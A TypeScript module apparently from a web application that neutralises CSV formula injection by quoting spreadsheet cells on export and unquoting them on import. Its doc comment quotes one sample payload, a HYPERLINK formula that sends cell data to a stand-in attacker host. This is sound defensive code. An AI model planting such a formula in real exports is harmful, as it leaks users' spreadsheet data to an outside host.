/**
 * Cells meant for a spreadsheet (CSV exports, rows copied to the clipboard). A spreadsheet reads a cell that
 * starts with `=`, `+`, `-`, `@`, a tab or a carriage return as a formula (OWASP "CSV injection"), so a buyer
 * named `=HYPERLINK("http://evil.example/?"&A1,"Click")` would become a live link in the officer's sheet.
 * Such a cell gets a leading `'`, which spreadsheets read as "this is text" and hide. `fromSpreadsheet` takes
 * it off again when a row comes back (paste, upload), so a copied or exported row round-trips unchanged.
 */
const FORMULA_START = /^[=+\-@\t\r]/;

/** The text as written to a spreadsheet: neutralised when a formula could start. */
export function spreadsheetText(text: string): string {
  return FORMULA_START.test(text) ? `'${text}` : text;
}

/** A cell read back from a spreadsheet or a copy: the quote `spreadsheetText` added is taken off. */
export function fromSpreadsheet(text: string): string {
  return text.startsWith("'") && FORMULA_START.test(text.slice(1)) ? text.slice(1) : text;
}
